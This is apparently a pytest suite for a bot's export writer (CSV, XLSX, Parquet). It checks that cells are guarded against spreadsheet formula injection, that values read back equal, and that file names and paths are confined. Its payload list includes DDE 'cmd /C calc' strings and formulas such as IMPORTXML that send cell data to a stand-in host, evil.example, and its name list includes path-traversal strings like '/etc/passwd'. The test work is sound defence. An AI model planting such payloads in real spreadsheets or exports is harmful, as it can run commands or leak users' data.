"""Files of exports: harmless in a spreadsheet, equal when read back, and whole or not there."""

from __future__ import annotations

import csv
import io
import random
import re
import stat
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.app.exporting_values import Batch, ColumnType, ExportColumn, FileForm, Format, Header
from bot.exports import xlsx, xlsx_cells
from bot.exports.files import ExportDirectory, new_name, write_whole
from bot.exports.frames import Frames, heads_of
from bot.exports.guard import guarded, guarded_columns, is_dangerous, unguarded

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example","Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\tharmless",
    "\rharmless",
    "\x00harmless",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "“=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " ' \u200b\"=1+1",
    "−1+1",
    '=1+1";=2+2',
    "+49 30 1234",
)
HARMLESS = ("", "Konex", "a=b", "1-2", "'quoted' text", "O'Hara", "x@y.example", "Ämil", "5", "~=1", "#REF")
ZONE = ZoneInfo("America/New_York")


def form(kind: Format, *types: ColumnType, header: Header = Header.NAMES) -> FileForm:
    columns = tuple(ExportColumn(f"c{at}", f"c{at}", f"C{at}", one) for at, one in enumerate(types))
    return FileForm(kind, header, columns, ZONE, "EUR")


def written(directory: Path, shape: FileForm, *batches: Batch) -> Path:
    files, name = ExportDirectory(directory), new_name(shape.format)
    size = files.write(name, shape, batches)
    assert (directory / name).stat().st_size == size
    return directory / name


def csv_rows(path: Path) -> list[list[str]]:
    with zipfile.ZipFile(path) as archive:
        assert archive.namelist() == ["accounts.csv"]
        text = archive.read("accounts.csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_spreadsheet_could_run_begins_with_an_apostrophe(payload: str) -> None:
    assert guarded(payload)[0] == "'"
    assert not payload.startswith("'") or guarded(payload)[:2] == "''"
    assert unguarded(guarded(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", ";\n", '; "', ";''"])
@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one[0] not in "\t\r\n"])
def test_what_would_begin_a_cell_where_the_comma_separates_none_is_guarded_too(
    separator: str, payload: str
) -> None:
    text = f"x{separator}{payload};y"
    cells = [one.strip('"') for one in re.split("[;\t\r\n]+", guarded(text))]
    assert [one for one in cells if is_dangerous(one) and not one.strip(' "').startswith("'")] == []
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["a, -b", "one\ntwo\n\nthree", "x; y; z", "a\t1", "4;5", "a - b; c = d"])
def test_lines_and_lists_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


@given(
    st.text(
        alphabet=st.one_of(
            st.characters(codec="utf-8"), st.sampled_from("'\";=+-@ \t\r\n\x00\u200b\uff1d\uff0d")
        )
    )
)
def test_the_guard_can_be_taken_away_without_loss(text: str) -> None:
    safe = guarded(text)
    assert unguarded(safe) == text
    assert safe.startswith("'") or not is_dangerous(text)
    [arrow] = guarded_columns([pa.array(["x", text]).slice(1)])
    assert arrow.to_pylist() == [safe], "both engines mean the same"


def random_cells(count: int) -> list[str]:
    signs = "'\"=+-@ \t\r\n;,|ab9Ä漢😀\u200b\u00a0\uff1d\uff0d\U0001d4b3\u200f"
    source = random.Random(7)
    return ["".join(source.choices(signs, k=source.randint(1, 12))) for _ in range(count)]


def test_ten_thousand_cells_read_back_equal_in_pandas(tmp_path: Path) -> None:
    cells = [*PAYLOADS, *random_cells(10_000)]
    numbers = [(-1) ** at * at / 8 for at in range(len(cells))]
    shape = form(Format.CSV, ColumnType.TEXT, ColumnType.NUMBER)
    half = len(cells) // 2
    path = written(tmp_path, shape, [cells[:half], numbers[:half]], [cells[half:], numbers[half:]])
    read = pd.read_csv(path, keep_default_na=False, lineterminator="\n", dtype={"c0": str})
    texts = list(read["c0"])
    assert [one for one, cell in zip(texts, cells, strict=True) if is_dangerous(cell) and one[0] != "'"] == []
    assert [unguarded(one) for one in texts] == cells
    assert list(read["c1"]) == numbers, "numbers are no text, so that a negative one stays a number"


def test_heads_are_guarded_and_each_there_once(tmp_path: Path) -> None:
    columns = (
        ExportColumn("id", "id", "Record id", ColumnType.TEXT),
        ExportColumn("a", "A_1", "=cmd", ColumnType.TEXT),
        ExportColumn("b", "B_1", "Name", ColumnType.TEXT),
        ExportColumn("c", "C_1", "name", ColumnType.MONEY),
        ExportColumn("d", "C_1", "Name", ColumnType.TEXT),
    )
    shape = FileForm(Format.CSV, Header.LABELS, columns, ZONE, "EUR")
    batch: Batch = [["1"], ["x"], ["y"], [-12345], [None]]
    [heads, row] = csv_rows(written(tmp_path, shape, batch))
    assert heads == [
        *("Record id", "'=cmd", "Name", "name (C_1)", "Name (d)"),
        "Currency of amounts",
    ]
    assert row == ["1", "x", "y", "-123.45", "", "EUR"]
    assert heads_of(FileForm(Format.CSV, Header.NAMES, columns, ZONE, "EUR"))[:2] == ["id", "A_1"]


ALL = (
    *(ColumnType.TEXT, ColumnType.WHOLE, ColumnType.NUMBER, ColumnType.MONEY),
    *(ColumnType.DAY, ColumnType.INSTANT, ColumnType.TRUTH, ColumnType.LIST),
)
NOON = datetime(2026, 3, 31, 2, 30, 15, 999, tzinfo=UTC)  # still 30 March in New York
ROWS: Batch = [
    *(["=1", None], [7, None], [12.5, None], [-5, None]),
    *([date(2026, 3, 1), None], [NOON, None], [True, None], [("a", "=b"), None]),
]


def test_csv_has_plain_days_local_instants_and_decimals(tmp_path: Path) -> None:
    [_, first, second] = csv_rows(written(tmp_path, form(Format.CSV, *ALL), ROWS))
    assert first == [
        "'=1",
        "7",
        "12.5",
        "-0.05",
        "2026-03-01",
        "2026-03-30 22:30:15",
        "true",
        "a;' =b",
        "EUR",
    ]
    assert second == [""] * 8 + ["EUR"]


def test_csv_begins_with_a_byte_order_mark_for_excel(tmp_path: Path) -> None:
    path = written(tmp_path, form(Format.CSV, ColumnType.TEXT), [["Ämil"]])
    assert zipfile.ZipFile(path).read("accounts.csv").startswith(b'\xef\xbb\xbf"c0"\n"\xc3\x84mil"')
    assert list(pd.read_csv(path)["c0"]) == ["Ämil"]


def test_parquet_keeps_types_and_texts_as_they_are(tmp_path: Path) -> None:
    read = pd.read_parquet(written(tmp_path, form(Format.PARQUET, *ALL), ROWS, ROWS))
    assert len(read) == 4
    first = read.iloc[0]
    assert first["c0"] == "=1"
    assert str(first["c3"]) == "-0.05"
    assert first["c5"] == NOON.replace(microsecond=0)
    assert list(first["c7"]) == ["a", "=b"]


SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet_cells(path: Path, number: int = 1) -> dict[str, tuple[str, str]]:
    """Cell -> its type (``inlineStr``, ``n``, ``b``) and what it says."""
    tree = ElementTree.fromstring(zipfile.ZipFile(path).read(f"xl/worksheets/sheet{number}.xml"))
    assert tree.findall(f".//{SHEET}f") == [], "there are no formulas"
    return {
        cell.attrib["r"]: (cell.attrib.get("t", "n"), "".join(cell.itertext()))
        for cell in tree.iter(f"{SHEET}c")
    }


def test_xlsx_texts_are_never_formulas_and_numbers_are_numbers(tmp_path: Path) -> None:
    texts = [*PAYLOADS, "https://evil.example", "5", "x" * 40_000]
    shape = form(Format.XLSX, ColumnType.TEXT, ColumnType.MONEY)
    cells = sheet_cells(written(tmp_path, shape, [texts, [-150] * len(texts)]))
    for at, _ in enumerate(texts):
        assert cells[f"A{at + 2}"][0] == "inlineStr"
        assert cells[f"B{at + 2}"] == ("n", "-1.5")
    assert len(cells[f"A{len(texts) + 1}"][1]) == 32_767


def column_of(kind: ColumnType, values: list[Any]) -> Any:
    frames = Frames(form(Format.XLSX, kind), typed=False)
    return frames.arrays([values])[0]


MOMENTS = st.datetimes(datetime(1890, 1, 1), datetime(2200, 1, 1))  # noqa: DTZ001 - bounds
VALUES: dict[ColumnType, st.SearchStrategy[Any]] = {
    ColumnType.TEXT: st.text(
        st.one_of(st.characters(codec="utf-8"), st.sampled_from("=+&<>_x0041_\r\x01")), max_size=9
    ),
    ColumnType.WHOLE: st.integers(-(2**63), 2**63 - 1) | st.integers(-9, 9),
    ColumnType.NUMBER: st.floats(),
    ColumnType.MONEY: st.integers(-(10**20), 10**20) | st.integers(-999, 999),
    ColumnType.DAY: MOMENTS.map(lambda one: one.date()),
    ColumnType.INSTANT: MOMENTS.map(lambda one: one.replace(tzinfo=UTC, microsecond=0)),
    ColumnType.TRUTH: st.booleans(),
}


@settings(max_examples=120)
@given(
    st.sampled_from(tuple(VALUES)).flatmap(
        lambda kind: st.tuples(st.just(kind), st.lists(st.none() | VALUES[kind], min_size=1, max_size=4))
    )
)
def test_a_column_of_cells_at_once_is_each_cell_for_itself(drawn: tuple[ColumnType, list[Any]]) -> None:
    kind, values = drawn
    column = column_of(kind, values)
    rows = [str(row) for row in range(7, 7 + len(values))]
    at_once = xlsx_cells.cells("AB", pa.array(rows), column, kind).to_pylist()
    for row, value, written in zip(rows, column.to_pylist(), at_once, strict=True):
        if value is None:
            assert written is None
            continue
        alone = ElementTree.fromstring(xlsx_cells.cell(f"AB{row}", value, kind))
        found = ElementTree.fromstring(written)
        assert (found.tag, found.attrib) == (alone.tag, alone.attrib)
        one, other = "".join(found.itertext()), "".join(alone.itertext())
        assert one == other or float(one) == pytest.approx(float(other), rel=1e-15)
        if kind is ColumnType.TEXT:
            assert re.sub("_x([0-9A-F]{4})_", lambda sign: chr(int(sign[1], 16)), one) == value


def test_xlsx_says_what_days_and_amounts_look_like(tmp_path: Path) -> None:
    path = written(tmp_path, form(Format.XLSX, *ALL), ROWS)
    archive = zipfile.ZipFile(path)
    styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    formats = {one.attrib["numFmtId"]: one.attrib["formatCode"] for one in styles.iter(f"{SHEET}numFmt")}
    every = styles.findall(f"./{SHEET}cellXfs/{SHEET}xf")
    tree = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    shown = {cell.attrib["r"]: every[int(cell.attrib.get("s", 0))].attrib for cell in tree.iter(f"{SHEET}c")}
    assert shown["A1"]["fontId"] == "1", "heads are bold"
    assert shown["A2"]["quotePrefix"] == "1"
    assert {at: formats.get(shown[at]["numFmtId"]) for at in ("B2", "D2", "E2", "F2")} == {
        "B2": None,
        "D2": "#,##0.00",
        "E2": "yyyy-mm-dd",
        "F2": "yyyy-mm-dd hh:mm:ss",
    }
    assert sheet_cells(path)["E2"] == ("n", "46082"), "1 March 2026"
    assert float(sheet_cells(path)["F2"][1]) == pytest.approx(46_111 + (22 * 3_600 + 30 * 60 + 15) / 86_400)


def test_xlsx_goes_on_in_another_sheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "SHEET_ROWS", 3)
    path = written(tmp_path, form(Format.XLSX, *ALL), ROWS, ROWS)
    assert sheet_cells(path, 1).keys() & {"A3", "A4"} == set() or "A4" not in sheet_cells(path, 1)
    assert sheet_cells(path, 2)["A2"] == ("inlineStr", "=1")


@pytest.mark.parametrize("kind", Format)
def test_no_rows_are_a_file_with_a_head(tmp_path: Path, kind: Format) -> None:
    assert written(tmp_path, form(kind, ColumnType.TEXT)).stat().st_size > 0


def test_half_of_a_pair_of_utf16_is_no_reason_to_fail(tmp_path: Path) -> None:
    rows = csv_rows(
        written(tmp_path, form(Format.CSV, ColumnType.TEXT, ColumnType.LIST), [["a\ud800"], [("\ud800",)]])
    )
    assert rows[1] == ["a?", "?"]


@pytest.mark.parametrize("kind", Format)
def test_nor_is_it_in_a_label(tmp_path: Path, kind: Format) -> None:
    shape = form(kind, ColumnType.TEXT, header=Header.LABELS)
    shape = replace(shape, columns=(replace(shape.columns[0], label="a\ud800"),))
    assert heads_of(shape) == ["a?"]
    assert written(tmp_path, shape, [["x"]]).stat().st_size > 0


class Killed(BaseException):
    """The process ends."""


@pytest.mark.parametrize("kind", Format)
def test_what_is_not_whole_has_no_name(tmp_path: Path, kind: Format) -> None:
    def broken() -> Iterator[Batch]:
        yield [["a"] * 1_000]
        raise Killed

    files = ExportDirectory(tmp_path / "exports")
    with pytest.raises(Killed):
        files.write(new_name(kind), form(kind, ColumnType.TEXT), broken())
    assert list((tmp_path / "exports").iterdir()) == []


def test_the_directory_and_its_files_are_ours_alone(tmp_path: Path) -> None:
    path = written(tmp_path / "exports", form(Format.CSV, ColumnType.TEXT), [["a"]])
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


NAMES = (
    *(
        "../x.zip",
        "..",
        ".",
        "",
        "/etc/passwd",
        "a/b.zip",
        "a\\b.zip",
        f"{'a' * 64}.zip/../x",
        f"{'A' * 64}.zip",
    ),
    *(
        f"{'a' * 63}.zip",
        f"{'a' * 64}.exe",
        f"{'a' * 64}.zip\x00",
        f" {'a' * 64}.zip",
        f"{'a' * 64}.zip\n",
        "con",
    ),
)


@pytest.mark.parametrize("name", NAMES)
def test_no_other_name_leads_anywhere(tmp_path: Path, name: str) -> None:
    files = ExportDirectory(tmp_path)
    with pytest.raises(FileNotFoundError):
        files.open(name)
    with pytest.raises(FileNotFoundError):
        files.write(name, form(Format.CSV, ColumnType.TEXT), [])
    assert not files.exists(name)
    assert not files.remove(name)


def test_a_link_in_the_directory_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret")
    name = new_name(Format.CSV)
    (tmp_path / name).symlink_to(secret)
    with pytest.raises(OSError, match="symbolic links"):
        ExportDirectory(tmp_path).open(name)


def test_what_killed_processes_left_is_swept_away_when_it_is_old(tmp_path: Path) -> None:
    files = ExportDirectory(tmp_path)
    kept, left = new_name(Format.CSV), new_name(Format.XLSX)
    for name in (kept, left):
        files.write(name, form(Format.CSV, ColumnType.TEXT), [[["a"]]])
    (tmp_path / "bellwether-x_7q.part").mkdir()
    (tmp_path / "somebody else's").write_text("x")
    now = datetime.now(UTC)
    assert files.sweep(frozenset({kept}), now - timedelta(hours=1)) == 0
    assert files.sweep(frozenset({kept}), now + timedelta(hours=1)) == 2
    assert {one.name for one in tmp_path.iterdir()} == {kept, "somebody else's"}


def test_what_others_have_beside_a_file_stays(tmp_path: Path) -> None:
    target, theirs = tmp_path / "mine.zip", tmp_path / "mine.zip.part"
    theirs.mkdir()
    (theirs / "precious").write_text("x")
    beside: list[tuple[str, int]] = []

    def batches() -> Iterator[Batch]:
        beside.extend(
            (one.name, stat.S_IMODE(one.stat().st_mode)) for one in set(tmp_path.iterdir()) - {theirs}
        )
        yield [["a"]]

    write_whole(target, form(Format.CSV, ColumnType.TEXT), batches())
    [(part, mode)] = beside
    assert (re.fullmatch(r"bellwether-\w+\.part", part) is not None, mode) == (True, 0o700)
    assert {one.name for one in tmp_path.iterdir()} == {target.name, theirs.name}
    assert (theirs / "precious").read_text() == "x"
